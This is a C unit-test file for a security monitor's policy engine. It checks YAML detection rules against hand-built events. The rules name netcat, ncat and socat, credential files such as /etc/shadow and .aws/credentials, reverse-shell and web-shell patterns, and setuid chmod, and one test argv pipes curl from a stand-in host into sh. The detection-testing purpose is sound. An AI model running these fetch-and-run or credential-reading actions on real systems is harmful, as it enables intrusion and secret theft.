// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Unit tests of the policy engine: every field and operator, negation, lists,
 * exceptions, exclusions, rule order, defaults, rename and write semantics,
 * ancestry (through a test lineage, no process table), parse errors with
 * their positions, directory merging, counters, the normalized dump and the
 * JSON form.  Events are built by hand; no root needed.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <cmocka.h>
#include <json-c/json.h>
#include "addr.h"
#include "policy.h"
#include "policy_int.h"
#include "proctable.h"

/* A tiny process tree for the lineage callbacks. */
static struct proc_entry procs[8];
static size_t nprocs;

static const struct proc_entry *t_get(void *arg, uint32_t pid)
{
	for (size_t i = 0; i < nprocs; i++)
		if (procs[i].pid == pid)
			return &procs[i];
	return NULL;
}

static const struct proc_entry *t_parent(void *arg, const struct proc_entry *e)
{
	return t_get(arg, e->ppid);
}

static const struct policy_lineage lineage = { .get = t_get, .parent = t_parent };

static void add_proc(uint32_t pid, uint32_t ppid, const char *exe, const char *comm)
{
	struct proc_entry *e = &procs[nprocs++];

	memset(e, 0, sizeof(*e));
	e->pid = pid;
	e->ppid = ppid;
	e->exe = exe;
	snprintf(e->comm, sizeof(e->comm), "%s", comm);
}

/* init(1) -> nginx(10) -> sh(20) -> python3(30) */
static int setup_tree(void **state)
{
	nprocs = 0;
	add_proc(1, 0, "/usr/lib/systemd/systemd", "systemd");
	add_proc(10, 1, "/usr/sbin/nginx", "nginx");
	add_proc(20, 10, "/usr/bin/dash", "sh");
	add_proc(30, 20, "/usr/bin/python3.11", "python3");
	return 0;
}

static struct policy *load(const char *text)
{
	struct policy_diag d;
	struct policy *p = NULL;
	int r;

	policy_diag_init(&d);
	r = policy_load_string("t.yaml", text, strlen(text), &p, &d);
	if (r < 0)
		policy_diag_print(&d, stderr);
	assert_int_equal(r, 0);
	policy_diag_fini(&d);
	return p;
}

/* Loads text expecting errors; returns all messages, one per line. */
static char *load_fail(const char *text)
{
	struct policy_diag d;
	struct policy *p = NULL;
	char *buf = NULL;
	size_t len = 0;
	FILE *f;

	policy_diag_init(&d);
	assert_int_equal(policy_load_string("t.yaml", text, strlen(text), &p, &d), -EINVAL);
	assert_null(p);
	f = open_memstream(&buf, &len);
	policy_diag_print(&d, f);
	fclose(f);
	policy_diag_fini(&d);
	return buf;
}

static void expect_error(const char *text, const char *msg)
{
	char *out = load_fail(text);

	if (!strstr(out, msg))
		fail_msg("expected '%s' in:\n%s", msg, out);
	free(out);
}

static struct sg_event ev_base(int type, uint32_t pid, const char *comm, const char *exe)
{
	struct sg_event ev;

	memset(&ev, 0, sizeof(ev));
	ev.type = type;
	ev.proc.pid = pid;
	ev.proc.tid = pid;
	ev.proc.ppid = 0;
	for (size_t i = 0; i < nprocs; i++)
		if (procs[i].pid == pid)
			ev.proc.ppid = procs[i].ppid;
	ev.proc.uid = 1000;
	ev.proc.gid = 1000;
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "%s", comm);
	ev.proc.exe = exe;
	ev.has_result = true;
	return ev;
}

static struct sg_event ev_exec(uint32_t pid, const char *exe, const char *argv, size_t argv_len)
{
	struct sg_event ev = ev_base(SG_EV_EXEC, pid, strrchr(exe, '/') + 1, exe);

	ev.exec.filename = exe;
	ev.exec.argv = argv;
	ev.exec.argv_len = argv_len;
	for (size_t i = 0; i < argv_len; i++)
		ev.exec.argc += argv[i] == '\0';
	return ev;
}

static struct sg_event ev_open(uint32_t pid, const char *path, bool write, uint32_t flags)
{
	struct sg_event ev = ev_base(SG_EV_OPEN, pid, "cat", "/usr/bin/cat");

	ev.file.path = path;
	ev.file.path_resolved = true;
	ev.file.write = write;
	ev.file.flags = flags;
	return ev;
}

static struct sg_event ev_net(int type, const char *addr, uint16_t port, int proto)
{
	struct sg_event ev = ev_base(type, 20, "sh", "/usr/bin/dash");

	if (strchr(addr, ':')) {
		ev.net.family = AF_INET6;
		inet_pton(AF_INET6, addr, ev.net.addr);
	} else {
		ev.net.family = AF_INET;
		inet_pton(AF_INET, addr, ev.net.addr);
	}
	ev.net.port = port;
	ev.net.protocol = proto;
	ev.net.sock_type = proto == IPPROTO_UDP ? SOCK_DGRAM : SOCK_STREAM;
	return ev;
}

/* The id of the rule that matched ev, or "-" for none. */
static const char *judge(const struct policy *p, struct sg_event *ev)
{
	policy_eval_lineage(p, ev, &lineage);
	return ev->verdict.rule_id ? ev->verdict.rule_id : "-";
}

static char *dump(const struct policy *p);

#define HDR "version: 1\nrules:\n"

static void test_string_ops(void **state)
{
	struct policy *p = load(HDR
		"  - {id: in, events: [open], match: {file.path: /etc/shadow}, action: alert}\n"
		"  - {id: pre, events: [open], match: {file.path: {prefix: /etc/cron}}, action: alert}\n"
		"  - {id: suf, events: [open], match: {file.path: {suffix: [.pem, .key]}}, "
		"action: alert}\n"
		"  - {id: con, events: [open], match: {file.path: {contains: /.ssh/}}, action: alert}\n"
		"  - {id: gl1, events: [open], match: {file.path: {glob: '/home/*/.aws/cred*'}}, "
		"action: alert}\n"
		"  - {id: gl2, events: [open], match: {file.path: {glob: ['/srv/*', '*.bak', '*tmp*', "
		"'/x/?', /exact]}}, action: alert}\n"
		"  - {id: name, events: [open], match: {file.name: .bashrc}, action: alert}\n");
	struct sg_event ev;

	ev = ev_open(20, "/etc/shadow", false, 0);
	assert_string_equal(judge(p, &ev), "in");
	ev = ev_open(20, "/etc/shadowx", false, 0);
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_open(20, "/etc/cron.d/job", true, O_WRONLY);
	assert_string_equal(judge(p, &ev), "pre");
	ev = ev_open(20, "/tmp/a.key", false, 0);
	assert_string_equal(judge(p, &ev), "suf");
	ev = ev_open(20, "/home/a/.ssh/id_rsa", false, 0);
	assert_string_equal(judge(p, &ev), "con");
	ev = ev_open(20, "/home/bob/.aws/credentials", false, 0);
	assert_string_equal(judge(p, &ev), "gl1");
	ev = ev_open(20, "/srv/a/b", false, 0);
	assert_string_equal(judge(p, &ev), "gl2");
	ev = ev_open(20, "/var/db.bak", false, 0);
	assert_string_equal(judge(p, &ev), "gl2");
	ev = ev_open(20, "/var/xtmpy", false, 0);
	assert_string_equal(judge(p, &ev), "gl2");
	ev = ev_open(20, "/x/y", false, 0);
	assert_string_equal(judge(p, &ev), "gl2");
	ev = ev_open(20, "/x/yy", false, 0);
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_open(20, "/exact", false, 0);
	assert_string_equal(judge(p, &ev), "gl2");
	ev = ev_open(20, "/home/u/.bashrc", false, 0);
	assert_string_equal(judge(p, &ev), "name");
	policy_free(p);
}

static void test_proc_fields(void **state)
{
	struct policy *p = load(HDR
		"  - {id: exe, events: [exec], match: {proc.exe: /usr/bin/nc.openbsd}, action: alert}\n"
		"  - {id: comm, events: [exec], match: {proc.comm: [ncat]}, action: alert}\n"
		"  - {id: name, events: [exec], match: {proc.name: socat}, action: alert}\n"
		"  - {id: uid, events: [exec], match: {proc.uid: [0, 5-9]}, action: alert}\n"
		"  - {id: gid, events: [exec], match: {proc.gid: 42}, action: alert}\n"
		"  - {id: pid, events: [exec], match: {proc.pid: 777}, action: alert}\n"
		"  - {id: ppid, events: [exec], match: {proc.ppid: 10}, action: alert}\n");
	struct sg_event ev;

	ev = ev_exec(99, "/usr/bin/nc.openbsd", "nc\0", 3);
	assert_string_equal(judge(p, &ev), "exe");
	ev = ev_exec(99, "/usr/bin/ncat", "ncat\0", 5);
	assert_string_equal(judge(p, &ev), "comm");
	ev = ev_exec(99, "/usr/bin/socat", "x\0", 2);
	assert_string_equal(judge(p, &ev), "name");
	/* proc.name falls back on comm when the exe is unknown */
	ev = ev_exec(99, "/usr/bin/other", "x\0", 2);
	ev.proc.exe = NULL;
	ev.exec.filename = NULL;
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "socat");
	assert_string_equal(judge(p, &ev), "name");
	ev = ev_exec(99, "/usr/bin/true", "x\0", 2);
	ev.proc.uid = 7;
	assert_string_equal(judge(p, &ev), "uid");
	ev.proc.uid = 10;
	assert_string_equal(judge(p, &ev), "-");
	ev.proc.uid = 0;
	assert_string_equal(judge(p, &ev), "uid");
	ev.proc.uid = 1000;
	ev.proc.gid = 42;
	assert_string_equal(judge(p, &ev), "gid");
	ev.proc.gid = 1000;
	ev.proc.pid = 777;
	assert_string_equal(judge(p, &ev), "pid");
	ev.proc.pid = 778;
	ev.proc.ppid = 10;
	assert_string_equal(judge(p, &ev), "ppid");
	policy_free(p);
}

static void test_argv(void **state)
{
	static const char curl[] = "sh\0-c\0curl -s http://x | sh\0";
	static const char chmod[] = "chmod\0u+s\0/tmp/x\0";
	struct policy *p = load(HDR
		"  - {id: pipe, events: [exec], match: {proc.argv: {arg: -c, contains: '| sh'}}, "
		"action: alert}\n"
		"  - {id: suid, events: [exec], match: {proc.argv: [u+s, '4755']}, action: alert}\n"
		"  - {id: glob, events: [exec], match: {proc.argv: {glob: 'python* -c *'}}, "
		"action: alert}\n"
		"  - {id: whole, events: [exec], match: {proc.argv: {in: 'ls -la'}}, action: log}\n"
		"  - {id: entry, events: [open], match: {proc.argv: {prefix: 'vim '}}, action: log}\n");
	struct sg_event ev;

	ev = ev_exec(99, "/usr/bin/dash", curl, sizeof(curl) - 1);
	assert_string_equal(judge(p, &ev), "pipe");
	ev = ev_exec(99, "/usr/bin/chmod", chmod, sizeof(chmod) - 1);
	assert_string_equal(judge(p, &ev), "suid");
	ev = ev_exec(99, "/usr/bin/python3.11", "python3\0-c\0print(1)\0", 21);
	assert_string_equal(judge(p, &ev), "glob");
	ev = ev_exec(99, "/usr/bin/ls", "ls\0-la\0", 7);
	assert_string_equal(judge(p, &ev), "whole");
	/* "u+s" is a whole argument: "au+s" is not */
	ev = ev_exec(99, "/usr/bin/echo", "echo\0au+s\0", 10);
	assert_string_equal(judge(p, &ev), "-");
	/* no argv at all: nothing matches */
	ev = ev_exec(99, "/usr/bin/echo", NULL, 0);
	assert_string_equal(judge(p, &ev), "-");
	/* other events take argv from the process entry */
	nprocs = 0;
	add_proc(55, 1, "/usr/bin/vim.basic", "vim");
	procs[0].argv = "vim\0/etc/hosts\0";
	procs[0].argv_len = 15;
	ev = ev_open(55, "/etc/hosts", false, 0);
	assert_string_equal(judge(p, &ev), "entry");
	policy_free(p);
}

static void test_negation_and_ancestry(void **state)
{
	struct policy *p = load(HDR
		"  - id: web-shell\n"
		"    events: [exec]\n"
		"    match:\n"
		"      proc.name: [sh, dash, bash]\n"
		"      ancestor.name: [nginx, apache2]\n"
		"    action: alert\n"
		"  - id: py-under-sh\n"
		"    events: [exec]\n"
		"    match: {proc.name: {prefix: python}, parent.comm: sh, parent.exe: /usr/bin/dash}\n"
		"    action: alert\n"
		"  - id: not-systemd\n"
		"    events: [exec]\n"
		"    match: {proc.name: cron, parent.name: {not: systemd}}\n"
		"    action: alert\n"
		"  - id: no-anc\n"
		"    events: [exec]\n"
		"    match: {proc.name: vi, ancestor.exe: {not: {prefix: /usr/sbin/}}}\n"
		"    action: alert\n"
		"  - id: not-prefix\n"
		"    events: [open]\n"
		"    match: {file.path: {prefix: /etc/, not: {prefix: [/etc/ssl/, /etc/ld.so]}}}\n"
		"    action: log\n");
	struct sg_event ev;

	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
	assert_string_equal(judge(p, &ev), "web-shell");
	ev = ev_exec(30, "/usr/bin/python3.11", "python3\0", 8);
	assert_string_equal(judge(p, &ev), "py-under-sh");
	/* cron's parent is nginx (10): not systemd */
	ev = ev_exec(11, "/usr/sbin/cron", "cron\0", 5);
	ev.proc.ppid = 10;
	assert_string_equal(judge(p, &ev), "not-systemd");
	ev.proc.ppid = 1;
	assert_string_equal(judge(p, &ev), "-");
	/* vi under nginx: some ancestor is under /usr/sbin/ */
	ev = ev_exec(30, "/usr/bin/vi", "vi\0", 3);
	assert_string_equal(judge(p, &ev), "-");
	/* vi whose ancestors are unknown: no ancestor is under /usr/sbin/ */
	ev = ev_exec(999, "/usr/bin/vi", "vi\0", 3);
	ev.proc.ppid = 998;
	assert_string_equal(judge(p, &ev), "no-anc");
	ev = ev_open(20, "/etc/passwd", false, 0);
	assert_string_equal(judge(p, &ev), "not-prefix");
	ev = ev_open(20, "/etc/ssl/certs/x", false, 0);
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_open(20, "/etc/ld.so.cache", false, 0);
	assert_string_equal(judge(p, &ev), "-");
	/* without a lineage, parents are unknown */
	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
	policy_eval_lineage(p, &ev, NULL);
	assert_null(ev.verdict.rule_id);
	policy_free(p);
}

static void test_ancestor_depth(void **state)
{
	struct policy *p = load(HDR
		"  - {id: deep, events: [exec], match: {ancestor.comm: root}, action: alert}\n");
	struct sg_event ev;

	/* a chain of 8 processes: root(100) <- 101 <- ... <- 107 */
	nprocs = 0;
	add_proc(100, 1, "/usr/bin/root", "root");
	for (uint32_t i = 101; i < 108; i++)
		add_proc(i, i - 1, "/usr/bin/mid", "mid");
	ev = ev_exec(107, "/usr/bin/x", "x\0", 2);
	assert_string_equal(judge(p, &ev), "deep");
	/* a loop in the table ends the walk */
	procs[0].ppid = 107;
	ev = ev_exec(50, "/usr/bin/x", "x\0", 2);
	ev.proc.ppid = 103;
	assert_string_equal(judge(p, &ev), "deep");
	policy_free(p);
}

static void test_match_any(void **state)
{
	struct policy *p = load(HDR
		"  - id: tmp-exec\n"
		"    events: [exec]\n"
		"    match:\n"
		"      - proc.exe: {prefix: [/tmp/, /dev/shm/]}\n"
		"      - exec.filename: {prefix: [/tmp/, /dev/shm/]}\n"
		"    action: alert\n"
		"  - id: suid\n"
		"    events: [exec]\n"
		"    match: {proc.name: chmod, proc.argv: {arg: ['*+*s*', '[2467][0-7][0-7][0-7]']}}\n"
		"    action: alert\n");
	struct sg_event ev;

	ev = ev_exec(20, "/tmp/xmrig", "xmrig\0", 6);
	assert_string_equal(judge(p, &ev), "tmp-exec");
	/* a script: the exe is the interpreter, the filename is the script */
	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
	ev.exec.filename = "/dev/shm/x.sh";
	assert_string_equal(judge(p, &ev), "tmp-exec");
	ev.exec.filename = "/usr/local/bin/x.sh";
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_exec(20, "/usr/bin/chmod", "chmod\0u+xs\0/tmp/x\0", 17);
	assert_string_equal(judge(p, &ev), "suid");
	ev = ev_exec(20, "/usr/bin/chmod", "chmod\0" "4755\0/tmp/x\0", 17);
	assert_string_equal(judge(p, &ev), "suid");
	ev = ev_exec(20, "/usr/bin/chmod", "chmod\0" "0755\0/tmp/x\0", 17);
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_exec(20, "/usr/bin/chmod", "chmod\0u+x\0/tmp/x\0", 16);
	assert_string_equal(judge(p, &ev), "-");
	policy_free(p);
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: []}\n",
		     "t.yaml:3:49: 'match' is an empty list");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: [{}]}\n",
		     "a 'match' entry has no conditions");
}

static void test_lists(void **state)
{
	struct policy *p = load("version: 1\n"
		"lists:\n"
		"  shells: [/usr/bin/bash, /usr/bin/dash]\n"
		"  more: [/usr/bin/zsh]\n"
		"rules:\n"
		"  - {id: a, events: [exec], match: {proc.exe: {in: [$shells, $more]}}, action: alert}\n"
		"  - {id: b, events: [exec], match: {proc.exe: $$literal}, action: alert}\n");
	struct sg_event ev;

	ev = ev_exec(20, "/usr/bin/zsh", "zsh\0", 4);
	assert_string_equal(judge(p, &ev), "a");
	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
	assert_string_equal(judge(p, &ev), "a");
	ev = ev_exec(20, "/usr/bin/fish", "fish\0", 5);
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_exec(20, "/x/$literal", "x\0", 2);
	ev.proc.exe = "$literal";
	assert_string_equal(judge(p, &ev), "b");
	policy_free(p);
}

static void test_exceptions_order_defaults(void **state)
{
	struct policy *p = load("version: 1\n"
		"defaults: {action: allow, severity: low}\n"
		"rules:\n"
		"  - id: cron\n"
		"    events: [write, rename]\n"
		"    match: {file.path: {prefix: /etc/cron}}\n"
		"    except:\n"
		"      - proc.exe: /usr/bin/crontab\n"
		"      - {proc.uid: 0, proc.comm: ansible}\n"
		"    action: alert\n"
		"    severity: high\n"
		"  - {id: second, events: [open], match: {file.path: {prefix: /etc/}}, action: log}\n"
		"  - {id: off, events: [open], match: {file.path: /x}, action: alert, "
		"enabled: false}\n"
		"  - {id: nosev, events: [open], match: {file.path: /y}, action: alert}\n");
	struct sg_event ev;

	ev = ev_open(20, "/etc/cron.d/x", true, O_WRONLY);
	assert_string_equal(judge(p, &ev), "cron");
	assert_int_equal(ev.verdict.action, SG_ACT_ALERT);
	assert_int_equal(ev.verdict.severity, SG_SEV_HIGH);
	assert_int_equal(ev.verdict.repeat, 1);
	assert_false(ev.verdict.enforced);
	/* an exception: the next rule in order gets it */
	ev.proc.exe = "/usr/bin/crontab";
	assert_string_equal(judge(p, &ev), "second");
	assert_int_equal(ev.verdict.action, SG_ACT_LOG);
	/* an exception with two conditions needs both */
	ev = ev_open(20, "/etc/cron.d/x", true, O_WRONLY);
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "ansible");
	assert_string_equal(judge(p, &ev), "cron");
	ev.proc.uid = 0;
	assert_string_equal(judge(p, &ev), "second");
	/* reading is not 'write' */
	ev = ev_open(20, "/etc/cron.d/x", false, 0);
	assert_string_equal(judge(p, &ev), "second");
	/* disabled rules never match; unmatched events get the defaults */
	ev = ev_open(20, "/x", false, 0);
	assert_string_equal(judge(p, &ev), "-");
	assert_int_equal(ev.verdict.action, SG_ACT_ALLOW);
	assert_int_equal(ev.verdict.severity, SG_SEV_LOW);
	/* a rule without a severity takes the default one */
	ev = ev_open(20, "/y", false, 0);
	assert_string_equal(judge(p, &ev), "nosev");
	assert_int_equal(ev.verdict.severity, SG_SEV_LOW);
	policy_free(p);

	/* the built-in defaults: log, info */
	p = load("version: 1\n");
	ev = ev_open(20, "/x", false, 0);
	assert_int_equal(policy_eval_lineage(p, &ev, NULL), SG_ACT_LOG);
	assert_int_equal(ev.verdict.severity, SG_SEV_INFO);
	assert_null(ev.verdict.rule_id);
	assert_int_equal(policy_dedup_window_ns(p), 2000000000ull);
	/* non-kernel types are always logged */
	ev.type = SG_EV_MARK;
	assert_int_equal(policy_eval_lineage(p, &ev, NULL), SG_ACT_LOG);
	policy_free(p);
}

static void test_allow_and_exclude(void **state)
{
	struct policy *p = load("version: 1\n"
		"exclude:\n"
		"  - {proc.comm: [systemd-journal, rsyslogd], event: [open, write]}\n"
		"  - {file.path: {prefix: /proc/}}\n"
		"rules:\n"
		"  - {id: quiet, events: [open], match: {proc.comm: updatedb}, action: allow}\n"
		"  - {id: all, events: [open, exec], action: alert}\n");
	struct policy_stats st;
	struct sg_event ev;

	ev = ev_open(20, "/var/log/syslog", true, O_WRONLY);
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "rsyslogd");
	assert_int_equal(policy_eval_lineage(p, &ev, &lineage), SG_ACT_ALLOW);
	assert_null(ev.verdict.rule_id);
	/* the exclusion names open events only */
	ev = ev_exec(20, "/usr/sbin/rsyslogd", "rsyslogd\0", 9);
	assert_string_equal(judge(p, &ev), "all");
	ev = ev_open(20, "/proc/self/stat", false, 0);
	assert_int_equal(policy_eval_lineage(p, &ev, &lineage), SG_ACT_ALLOW);
	ev = ev_open(20, "/etc/x", false, 0);
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "updatedb");
	assert_string_equal(judge(p, &ev), "quiet");
	assert_int_equal(ev.verdict.action, SG_ACT_ALLOW);
	ev = ev_open(20, "/etc/x", false, 0);
	assert_string_equal(judge(p, &ev), "all");
	policy_stats(p, &st);
	assert_int_equal(st.evaluated, 5);
	assert_int_equal(st.excluded, 2);
	assert_int_equal(st.defaulted, 0);
	policy_free(p);
}

static void test_files(void **state)
{
	struct policy *p = load(HDR
		"  - {id: hist, events: [rename, unlink], match: {file.name: .bash_history}, "
		"action: alert}\n"
		"  - {id: into, events: [rename], match: {file.new_path: {prefix: /etc/cron.d/}}, "
		"action: alert}\n"
		"  - {id: either, events: [rename], match: {file.path: {prefix: /etc/systemd/}}, "
		"action: alert}\n"
		"  - {id: trunc, events: [open], match: {file.path: {prefix: /var/log/}, "
		"file.trunc: true}, action: alert}\n"
		"  - {id: ro, events: [open], match: {file.path: /etc/shadow, file.write: false}, "
		"action: alert}\n"
		"  - {id: anyopen, events: [open], match: {file.path: /etc/shadow}, action: log}\n");
	struct sg_event ev;

	ev = ev_open(20, "/home/u/.bash_history", false, 0);
	ev.type = SG_EV_UNLINK;
	assert_string_equal(judge(p, &ev), "hist");
	ev.type = SG_EV_RENAME;
	ev.file.path = "/home/u/.bash_history";
	ev.file.new_path = "/tmp/x";
	assert_string_equal(judge(p, &ev), "hist");
	ev.file.path = "/tmp/job";
	ev.file.new_path = "/etc/cron.d/job";
	assert_string_equal(judge(p, &ev), "into");
	/* the old path alone is not file.new_path */
	ev.file.path = "/etc/cron.d/job";
	ev.file.new_path = "/tmp/job";
	assert_string_equal(judge(p, &ev), "-");
	/* file.path on a rename: the old or the new path */
	ev.file.path = "/tmp/unit";
	ev.file.new_path = "/etc/systemd/system/evil.service";
	assert_string_equal(judge(p, &ev), "either");
	ev.file.path = "/etc/systemd/system/evil.service";
	ev.file.new_path = "/tmp/unit";
	assert_string_equal(judge(p, &ev), "either");
	ev = ev_open(20, "/var/log/auth.log", true, O_WRONLY | O_TRUNC);
	assert_string_equal(judge(p, &ev), "trunc");
	ev.file.flags = O_WRONLY | O_APPEND;
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_open(20, "/etc/shadow", false, 0);
	assert_string_equal(judge(p, &ev), "ro");
	ev.file.write = true;
	assert_string_equal(judge(p, &ev), "anyopen");
	policy_free(p);
}

static void test_exec_context(void **state)
{
	struct policy *p = load(HDR
		"  - {id: rev, events: [exec], match: [{proc.name: [sh, dash], stdin: socket}], "
		"action: alert}\n"
		"  - {id: pipe, events: [exec], match: [{proc.name: [sh, dash], stdin.pipe_from: curl},"
		" {proc.name: curl, stdout.pipe_to: [sh, dash]}], action: alert}\n"
		"  - {id: anysock, events: [exec], match: {stdio: socket}, action: log}\n"
		"  - {id: mem, events: [exec], match: {exec.fileless: memfd}, action: alert}\n"
		"  - {id: ld, events: [exec], match: {exec.via: loader, exec.loader_target: "
		"{prefix: /tmp/}}, action: alert}\n");
	static const char argv[] = "sh\0-i";
	struct proc_entry curl = { .pid = 77, .comm = "curl", .exe = "/usr/bin/curl" };
	struct proc_entry sh = { .pid = 78, .comm = "sh", .exe = "/usr/bin/dash" };
	struct sg_event ev;

	ev = ev_exec(20, "/usr/bin/dash", argv, sizeof(argv));
	ev.exec.has_stdio = true;
	ev.exec.stdio[0].kind = SG_FD_SOCKET;
	ev.exec.stdio[1].kind = SG_FD_SOCKET;
	assert_string_equal(judge(p, &ev), "rev");
	ev.exec.stdio[0].kind = SG_FD_TTY;
	assert_string_equal(judge(p, &ev), "anysock"); /* stdout still a socket */
	ev.exec.stdio[1].kind = SG_FD_TTY;
	assert_string_equal(judge(p, &ev), "-");
	/* curl | sh, the shell exec'd last */
	ev.exec.stdio[0].kind = SG_FD_PIPE;
	ev.exec.stdio[0].peer = &curl;
	assert_string_equal(judge(p, &ev), "pipe");
	ev.exec.stdio[0].peer = &sh;
	assert_string_equal(judge(p, &ev), "-");
	ev.exec.stdio[0].peer = NULL;
	assert_string_equal(judge(p, &ev), "-");
	/* curl | sh, curl exec'd last: its stdout's reader is the shell */
	ev = ev_exec(21, "/usr/bin/curl", "curl\0", 5);
	ev.exec.has_stdio = true;
	ev.exec.stdio[1].kind = SG_FD_PIPE;
	ev.exec.stdio[1].peer = &sh;
	assert_string_equal(judge(p, &ev), "pipe");
	/* without stdio (a failed exec) no stdio condition holds */
	ev.exec.has_stdio = false;
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_exec(22, "/usr/bin/true", "true\0", 5);
	ev.exec.fileless = "memfd";
	assert_string_equal(judge(p, &ev), "mem");
	ev.exec.fileless = "deleted";
	assert_string_equal(judge(p, &ev), "-");
	ev.exec.fileless = NULL;
	ev.exec.via = "loader";
	ev.exec.loader_target = "/tmp/x";
	assert_string_equal(judge(p, &ev), "ld");
	ev.exec.loader_target = "/usr/bin/x";
	assert_string_equal(judge(p, &ev), "-");
	policy_free(p);

	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {stdin: sock}}\n",
		     "unknown value 'sock' (expected closed, tty, pipe, socket, file, null, chr, "
		     "other)");
	expect_error(HDR "  - {id: a, events: [open], action: log, match: {stdin: socket}}\n",
		     "field 'stdin' does not exist for events [open]");
}

static void test_chmod(void **state)
{
	struct policy *p = load(HDR
		"  - {id: suid, events: [chmod], match: [{file.setuid: true, file.path: {prefix: /tmp/}},"
		" {file.setgid: true, file.path: {prefix: /tmp/}}], action: alert}\n"
		"  - {id: exact, events: [chmod], match: {file.mode: 511, file.name: x}, action: alert}\n"
		"  - {id: exe, events: [chmod], match: {file.exec: true, file.path: {prefix: /dev/shm/}},"
		" action: log}\n");
	struct sg_event ev;

	ev = ev_open(20, "/tmp/a", false, 0);
	ev.type = SG_EV_CHMOD;
	ev.file.mode = 04755;
	assert_string_equal(judge(p, &ev), "suid");
	ev.file.mode = 02755;
	assert_string_equal(judge(p, &ev), "suid");
	ev.file.mode = 0755;
	assert_string_equal(judge(p, &ev), "-");
	ev.file.path = "/home/u/a";
	ev.file.mode = 04755;
	assert_string_equal(judge(p, &ev), "-");
	/* file.mode: the permission bits only (0777 is 511) */
	ev.file.path = "/srv/x";
	ev.file.mode = S_IFREG | 0777;
	assert_string_equal(judge(p, &ev), "exact");
	ev.file.mode = 0776;
	assert_string_equal(judge(p, &ev), "-");
	ev.file.path = "/dev/shm/p";
	ev.file.mode = 0700;
	assert_string_equal(judge(p, &ev), "exe");
	ev.file.mode = 0600;
	assert_string_equal(judge(p, &ev), "-");
	/* an open of the same path is not a chmod */
	ev = ev_open(20, "/tmp/a", false, 0);
	ev.file.mode = 04755;
	assert_string_equal(judge(p, &ev), "-");
	policy_free(p);

	/* the mode fields exist for chmod only */
	expect_error(HDR "  - {id: a, events: [open], action: log, match: {file.setuid: true}}\n",
		     "field 'file.setuid' does not exist for events [open]");
	expect_error(HDR "  - {id: a, events: [chmod], action: log, match: {file.write: true}}\n",
		     "field 'file.write' does not exist for events [chmod]");
}

static void test_net(void **state)
{
	struct policy *p = load(HDR
		"  - {id: lan, events: [connect], match: {net.addr: [10.0.0.0/8, 'fd00::/8']}, "
		"action: log}\n"
		"  - {id: dns, events: [connect], match: {net.port: 53, net.proto: udp}, action: log}\n"
		"  - {id: web, events: [connect], match: {net.port: [80, 443]}, action: log}\n"
		"  - {id: high, events: [connect], match: {net.port: 1000-2000, net.family: inet6}, "
		"action: alert}\n"
		"  - {id: host, events: [connect], match: {net.addr: 192.0.2.7}, action: alert}\n"
		"  - {id: unix, events: [connect], match: {net.family: unix}, action: log}\n"
		"  - {id: notweb, events: [bind, listen], match: {net.port: {not: [80, 443]}}, "
		"action: alert}\n"
		"  - {id: fail, events: [connect], match: {result: failure}, action: log}\n");
	struct sg_event ev;

	ev = ev_net(SG_EV_CONNECT, "10.1.2.3", 22, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "lan");
	ev = ev_net(SG_EV_CONNECT, "::ffff:10.1.2.3", 22, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "lan");
	ev = ev_net(SG_EV_CONNECT, "fd12::1", 22, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "lan");
	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 53, IPPROTO_UDP);
	assert_string_equal(judge(p, &ev), "dns");
	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 53, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "-");
	/* the protocol from the socket type when the kernel gave none */
	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 53, 0);
	ev.net.sock_type = SOCK_DGRAM;
	assert_string_equal(judge(p, &ev), "dns");
	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 443, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "web");
	ev = ev_net(SG_EV_CONNECT, "2001:db8::1", 1500, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "high");
	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 1500, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_net(SG_EV_CONNECT, "192.0.2.7", 1, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "host");
	ev = ev_net(SG_EV_CONNECT, "192.0.2.8", 1, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "-");
	ev.result = -ECONNREFUSED;
	assert_string_equal(judge(p, &ev), "fail");
	ev = ev_net(SG_EV_CONNECT, "0.0.0.0", 0, 0);
	ev.net.family = AF_UNIX;
	ev.net.unix_path = "/run/x.sock";
	assert_string_equal(judge(p, &ev), "unix");
	ev = ev_net(SG_EV_BIND, "0.0.0.0", 8080, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "notweb");
	ev = ev_net(SG_EV_LISTEN, "0.0.0.0", 443, IPPROTO_TCP);
	assert_string_equal(judge(p, &ev), "-");
	policy_free(p);
}

static void test_events_field(void **state)
{
	struct policy *p = load(HDR
